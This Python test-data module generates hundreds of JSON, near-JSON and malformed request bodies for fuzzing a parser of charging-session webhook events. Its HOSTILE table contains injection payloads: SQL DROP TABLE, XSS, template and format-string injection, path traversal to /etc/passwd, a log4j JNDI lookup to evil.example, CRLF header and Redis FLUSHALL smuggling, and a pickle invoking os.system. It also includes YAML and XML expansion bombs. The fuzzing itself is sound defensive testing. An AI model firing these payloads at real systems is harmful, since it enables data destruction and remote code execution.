"""Several hundred bodies: JSON, almost JSON, and what JSON parsers disagree about."""

import itertools
import json
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum


class Shape(StrEnum):
    """Whether a body is JSON by RFC 8259."""

    VALID = "JSON"
    INVALID = "no JSON"
    DISPUTED = "parsers disagree"


@dataclass(frozen=True)
class Document:
    """A body with its name and shape."""

    family: str
    name: str
    shape: Shape
    body: bytes


#: Strings that break programs, terminals, logs, databases and templates. Each is in every field once.
HOSTILE = {
    "NUL": "\0",
    "controls": "".join(map(chr, range(1, 32))),
    "DEL and C1": "\x7f\x80\x85\x9b31m",
    "ANSI": "\x1b[2J\x1b]0;owned\x07\x1b[31m",
    "CR LF": "a\r\nSet-Cookie: b\r\n\r\nHTTP/1.1 200 OK",
    "line separators": "a\u2028b\u2029c\x0b\x0c\x85",
    "bidi": "\u202etxt.exe\u202c\u2066\u2069\u200f",
    "zero width": "\u200b\u200c\u200d\u2060\ufeff",
    "lone high surrogate": "\ud800",
    "lone low surrogate": "\udfff",
    "surrogates reversed": "\udc00\ud800",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 20,
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "SQL": "'; DROP TABLE deliveries; --",
    "SQL wildcards": "%_\\' OR 1=1 /*",
    "HTML": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>",
    "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% raw %}",
    "format": "%s%n%d{0}{!r:>999999999}$(id)`id`",
    "path": "../../../../etc/passwd\\..\\CON|NUL:",
    "URL": "https://user:pw@evil.example/?q=#@[::1]",
    "log4j": "${jndi:ldap://evil.example/a}",
    "key of Redis": "webhooks:batch:*\n*3\r\n$7\r\nFLUSHALL\r\n",
    "pickle": "cos\nsystem\n(S'id'\ntR.",
    "number": "1e309",
    "empty": "",
    "space": " \t\n",
    "very long": "x" * 100_000,
    "200 astral": "\U0001f600" * 200,
    "501 umlauts": "ü" * 501,
}
STARTED = {"userId": "user1", "sessionId": "L60XMxWy0oP", "timestamp": "2025-06-12T10:56:51Z"}
FEE = {
    "sessionId": "L60XMxWy0oP",
    "timestamp": "2025-10-15T08:52:48Z",
    "feeWillApplyFrom": "2025-10-15T09:02:48Z",
    "feeType": "BLOCKING",
}


def documents() -> list[Document]:
    """Return all of them, without duplicates."""
    found: dict[bytes, Document] = {}
    families = (
        _scalars,
        _structures,
        _almost,
        _numbers,
        _strings,
        _encodings,
        _duplicates,
        _large,
        _shapes,
        _hostile,
    )
    for family in families:
        for name, shape, body in family():
            found.setdefault(body, Document(family.__name__.strip("_"), name, shape, body))
    return list(found.values())


def _scalars() -> Iterator[tuple[str, Shape, bytes]]:
    for text in ("null", "true", "false", "0", "-0", "1", '""', '"a"', "[]", "{}", "-1.5e-3"):
        yield text, Shape.VALID, text.encode()
        yield f"{text} in white space", Shape.VALID, f" \t\r\n{text}\n".encode()
        yield f"{text} twice", Shape.INVALID, f"{text} {text}".encode()
        yield f"{text} and a comma", Shape.INVALID, f"{text},".encode()
        yield f"{text} and NUL", Shape.DISPUTED, f"{text}\0".encode()
        yield f"{text} after a form feed", Shape.INVALID, f"\f{text}".encode()
        yield f"{text} after a no-break space", Shape.INVALID, f"\u00a0{text}".encode()


def _structures() -> Iterator[tuple[str, Shape, bytes]]:
    leaves = ("1", '"a"', "null", "[]", "{}")
    for left, right in itertools.product(leaves, repeat=2):
        yield f"array of {left} and {right}", Shape.VALID, f"[{left},{right}]".encode()
        yield f"object of {left} and {right}", Shape.VALID, f'{{"a":{left},"b":{right}}}'.encode()
    for text in ("[1,]", "[,1]", "[1,,2]", "[1 2]", "[1", "1]", "[1}", "[", "]", "[[]", "[]]"):
        yield text, Shape.INVALID, text.encode()
    for text in ('{"a"}', '{"a":}', '{"a":1,}', '{,"a":1}', '{"a" 1}', '{"a"::1}', '{"a":1', "{a:1}", "{'a':1}"):
        yield text, Shape.INVALID, text.encode()
    for text in ("{1:1}", "{null:1}", "{[]:1}", '{"a":1 "b":2}', '{"a":1}}', '{"a":1}#', "{", "}", '{"', '{"a":"'):
        yield text, Shape.INVALID, text.encode()
    for cut in range(1, 60, 3):
        whole = json.dumps({"event": "SESSION_STARTED", "payload": STARTED}).encode()
        yield f"cut after {cut}", Shape.INVALID, whole[:cut]


def _almost() -> Iterator[tuple[str, Shape, bytes]]:
    body = json.dumps(STARTED)
    for name, text in {
        "comment": f"/* c */{body}",
        "line comment": f"{body} // c",
        "hash comment": f"# c\n{body}",
        "JSON5": "{event:'SESSION_STARTED',}",
        "JavaScript": f"var a = {body};",
        "anti-hijack": f")]}}',\n{body}",
        "JSONP": f"callback({body})",
        "JSON lines": f"{body}\n{body}",
        "record separator": f"\x1e{body}\n",
        "True": "True",
        "None": "None",
        "undefined": "undefined",
        "Python": "{'event': 'SESSION_STARTED'}",
        "YAML": "event: SESSION_STARTED\npayload:\n  sessionId: a\n",
        "YAML bomb": "a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n",
        "XML": "<?xml version='1.0'?><event>SESSION_STARTED</event>",
        "XML bomb": '<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>',
        "form": "event=SESSION_STARTED&payload=%7B%7D",
        "multipart": '--x\r\nContent-Disposition: form-data; name="event"\r\n\r\nSESSION_STARTED\r\n--x--\r\n',
        "query": "?event=SESSION_STARTED",
        "HTML": "<html><body>502 Bad Gateway</body></html>",
    }.items():
        yield name, Shape.INVALID, text.encode()
    for name, raw in {
        "empty": b"",
        "one NUL": b"\0",
        "a gzip": bytes.fromhex("1f8b080000000000000303000000000000000000"),
        "a zip": b"PK\x03\x04" + bytes(30),
        "a pickle": b"\x80\x04\x95\x0c\0\0\0\0\0\0\0\x8c\x08exploits\x94.",
        "MessagePack": b"\x81\xa5event\xafSESSION_STARTED",
        "CBOR": b"\xa1eevent\x6fSESSION_STARTED",
        "protobuf": b"\n\x0fSESSION_STARTED\x12\x03abc",
        "every byte": bytes(range(256)),
        "PNG": b"\x89PNG\r\n\x1a\n",
        "HTTP": b"POST /plugsurfing/events HTTP/1.1\r\nHost: x\r\n\r\n",
    }.items():
        yield name, Shape.INVALID, raw


def _numbers() -> Iterator[tuple[str, Shape, bytes]]:
    valid = {
        "5,000 digits": "9" * 5000,
        "5,000 digits below zero": "-" + "9" * 5000,
        "5,000 decimals": "0." + "3" * 5000,
        "100,000 digits": "1" * 100_000,
        "over double": "1e309",
        "far over": "1e999999999",
        "further over": "-1e9999999999999999999999",
        "under double": "1e-400",
        "far under": "1e-999999999999",
        "2^53 + 1": "9007199254740993",
        "2^63": "9223372036854775808",
        "2^64": "18446744073709551616",
        "minus zero": "-0.0",
        "exponent with plus": "1E+2",
        "money": "0.1000000000000000055511151231257827",
    }
    invalid = ("01", "+1", ".5", "5.", "-", "0x10", "1_000", "1e", "1e+", "--1", "1.2.3", "٣", "½", "1 000", "Infinit")
    disputed = ("NaN", "Infinity", "-Infinity")
    for name, text in valid.items():
        yield name, Shape.VALID, _everywhere(text)
        yield f"{name} alone", Shape.VALID, text.encode()
    for text in invalid:
        yield text, Shape.INVALID, _everywhere(text)
    for text in disputed:
        yield text, Shape.DISPUTED, _everywhere(text)
        yield f"{text} alone", Shape.DISPUTED, text.encode()


def _everywhere(value: str) -> bytes:
    fields = ",".join(f'"{name}":{value}' for name in (*STARTED, "somethingNew"))
    return f'{{"event":"SESSION_STARTED","payload":{{{fields}}}}}'.encode()


def _strings() -> Iterator[tuple[str, Shape, bytes]]:
    for escape in ('"', "\\", "/", "b", "f", "n", "r", "t", "u0000", "u0041", "ud83d\\ude00", "ufeff", "u2028"):
        yield f"escape {escape}", Shape.VALID, _session(f"\\{escape}")
    for escape in ("x41", "u", "u00", "u00g0", "U0041", "'", "0", "a", "v", "e", "\n", "u+041", "ud83d\\u"):
        yield f"escape {escape!r}", Shape.INVALID, _session(f"\\{escape}")
    for code in ("ud800", "udfff", "udc00\\ud800", "ud800x", "ud800\\u0041", "ud800\\ud800"):
        yield f"surrogate {code}", Shape.DISPUTED, _session(f"\\{code}")
    for control in (0, 1, 9, 10, 13, 31, 127):
        shape = Shape.VALID if control == 127 else Shape.DISPUTED
        yield f"raw control {control}", shape, _session(chr(control))
    yield "not closed", Shape.INVALID, b'{"event":"SESSION_STARTED'
    yield "single quotes", Shape.INVALID, b"{'event':'SESSION_STARTED'}"


def _session(text: str) -> bytes:
    body = json.dumps({"event": "SESSION_STARTED", "payload": {**STARTED, "sessionId": "@"}})
    return body.replace("@", text).encode("utf-8", "surrogatepass")


def _encodings() -> Iterator[tuple[str, Shape, bytes]]:
    text = json.dumps(
        {"event": "SESSION_STARTED", "payload": {**STARTED, "sessionId": "Zürich-⚡-😀"}}, ensure_ascii=False
    )
    yield "UTF-8", Shape.VALID, text.encode()
    for encoding in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-16", "utf-32", "utf-8-sig"):
        yield encoding, Shape.DISPUTED, text.encode(encoding)
        yield f"{encoding}, cut", Shape.INVALID, text.encode(encoding)[:-1]
    for encoding in ("gb18030", "cp037"):
        yield encoding, Shape.INVALID, text.encode(encoding, "replace")
    yield "Latin-1", Shape.INVALID, _session("ü").replace("ü".encode(), b"\xfc")
    for name, raw in {
        "overlong": b"\xc0\xaf",
        "surrogate in UTF-8": b"\xed\xa0\x80",
        "CESU-8": b"\xed\xa0\xbd\xed\xb8\x80",
        "beyond Unicode": b"\xf4\x90\x80\x80",
        "five bytes": b"\xf8\x88\x80\x80\x80",
        "continuation alone": b"\x80",
        "cut": b"\xe2\x82",
        "0xff": b"\xff",
    }.items():
        yield name, Shape.DISPUTED, _session("@").replace(b"@", raw)
    for name, mark in {
        "BOM twice": b"\xef\xbb\xbf" * 2,
        "BOM of UTF-16": b"\xff\xfe",
        "half a BOM": b"\xef\xbb",
    }.items():
        yield name, Shape.DISPUTED, mark + text.encode()
    yield "BOM alone", Shape.DISPUTED, b"\xef\xbb\xbf"
    yield "BOM in the middle", Shape.INVALID, b'{"event":\xef\xbb\xbf"SESSION_STARTED"}'


def _duplicates() -> Iterator[tuple[str, Shape, bytes]]:
    for name, text in {
        "event": '{"event":"SESSION_STOPPED","event":"SESSION_STARTED","payload":%s}',
        "event, escaped": '{"event":"SESSION_STOPPED","\\u0065vent":"SESSION_STARTED","payload":%s}',
        "event, in another case": '{"event":"SESSION_STARTED","Event":"SESSION_STOPPED","payload":%s}',
        "event, NUL behind": '{"event":"SESSION_STARTED","event\\u0000":"x","payload":%s}',
        "payload": '{"event":"SESSION_STARTED","payload":{},"payload":%s}',
        "payload, then null": '{"event":"SESSION_STARTED","payload":%s,"payload":null}',
        "keys of both spellings": '{"event":"SESSION_STARTED","payload":%s,"session_id":"x","name":"y","at":1}',
        "__proto__": '{"event":"SESSION_STARTED","__proto__":{"a":1},"constructor":{},"payload":%s}',
        "__class__": '{"event":"SESSION_STARTED","__class__":"x","__init__":1,"payload":%s}',
    }.items():
        yield name, Shape.DISPUTED, (text % json.dumps(STARTED)).encode()
    inside = {
        **STARTED,
        "session_id": "other",
        "name": "OTHER",
        "wire_name": "x",
        "at": 5,
        "model_config": {},
        "self": 1,
    }
    yield "our own names inside", Shape.VALID, json.dumps({"event": "SESSION_STARTED", "payload": inside}).encode()
    many = ",".join(f'"sessionId":"{number}"' for number in range(10_000))
    yield "one key 10,000 times", Shape.DISPUTED, f'{{"event":"SESSION_STARTED","payload":{{{many}}}}}'.encode()
    yield "empty key", Shape.VALID, json.dumps({"event": "SESSION_STARTED", "payload": {**STARTED, "": ""}}).encode()


def _large() -> Iterator[tuple[str, Shape, bytes]]:
    for depth in (100, 1000, 10_000, 100_000):
        yield f"arrays {depth} deep", Shape.VALID, b"[" * depth + b"]" * depth
        nested = '{"a":' * depth + "1" + "}" * depth
        yield f"objects {depth} deep", Shape.VALID, nested.encode()
        inside = f'{{"event":"SESSION_STARTED","payload":{nested}}}'
        yield f"payload {depth} deep", Shape.VALID, inside.encode()
        unknown = f'{{"event":"SOMETHING_NEW","payload":{"[" * depth}{"]" * depth}}}'
        yield f"unknown event {depth} deep", Shape.VALID, unknown.encode()
        yield f"{depth} open brackets", Shape.INVALID, b"[" * depth
        yield f"{depth} open objects", Shape.INVALID, b'{"a":' * depth
    yield "1 MiB of spaces", Shape.INVALID, b" " * 1_048_576
    yield "1 MiB of NUL", Shape.INVALID, bytes(1_048_576)
    yield "1 MiB of quotes", Shape.INVALID, b'"' * 1_048_576
    yield "a string of 1 MiB", Shape.VALID, b'"' + b"x" * 1_048_574 + b'"'
    yield "100,000 keys", Shape.VALID, json.dumps({f"k{number}": 0 for number in range(80_000)}).encode()
    yield "100,000 zeros", Shape.VALID, json.dumps({"event": "NEW", "payload": [0] * 100_000}).encode()
    yield (
        "spaces around an event",
        Shape.VALID,
        b" " * 500_000 + json.dumps({"event": "NEW"}).encode() + b"\n" * 500_000,
    )


def _shapes() -> Iterator[tuple[str, Shape, bytes]]:
    odd = (None, True, False, 0, -1, 1.5, "", "x", [], ["x"], {}, {"a": 1}, 10**30)
    for value in odd:
        yield f"event is {value!r}", Shape.VALID, json.dumps({"event": value, "payload": STARTED}).encode()
        yield f"payload is {value!r}", Shape.VALID, json.dumps({"event": "SESSION_STARTED", "payload": value}).encode()
        for name in FEE:
            body = {"event": "SESSION_FEE_INCURRING", "payload": {**FEE, name: value}}
            yield f"{name} is {value!r}", Shape.VALID, json.dumps(body).encode()
    for name in FEE:
        payload = {key: value for key, value in FEE.items() if key != name}
        yield (
            f"without {name}",
            Shape.VALID,
            json.dumps({"event": "SESSION_FEE_INCURRING", "payload": payload}).encode(),
        )
    for at in (
        "0000-00-00T00:00:00Z",
        "9999-12-31T23:59:59.999999999+14:00",
        "0001-01-01T00:00:00-14:00",
        "2025-02-30T00:00:00Z",
        "2025-06-12T24:00:00Z",
        "2016-12-31T23:59:60Z",
        "2025-06-12T10:56:51+99:99",
        "2025-06-12 10:56:51",
        "20250612T105651Z",
        "2025-W24-4",
        "\u0662\u0660\u0662\u0665-06-12T10:56:51Z",
        "now",
        1749725811,
        1749725811000,
        -62135596801,
        1e308,
        -1e308,
    ):
        body = {"event": "SESSION_STARTED", "payload": {**STARTED, "timestamp": at}}
        yield f"timestamp {at!r}", Shape.VALID, json.dumps(body).encode()


def _hostile() -> Iterator[tuple[str, Shape, bytes]]:
    for name, text in HOSTILE.items():
        for field in ("event", "userId", "sessionId", "timestamp", "feeType", "key"):
            body = {"event": "SESSION_FEE_INCURRING", "payload": {**FEE, "userId": "user1"}}
            if field == "event":
                body["event"] = text or " "
            elif field == "key":
                body["payload"] = {**FEE, text or " ": text}
            else:
                body["payload"] = {**FEE, field: text}
            shape = Shape.DISPUTED if "surrogate" in name else Shape.VALID
            yield f"{name} in {field}", shape, json.dumps(body).encode()
        body = {"event": "SESSION_STARTED", "payload": {**STARTED, "sessionId": f"raw {text}"}}
        raw = json.dumps(body, ensure_ascii=False).encode("utf-8", "surrogatepass")
        yield f"{name}, not escaped", Shape.DISPUTED if "surrogate" in name else Shape.VALID, raw
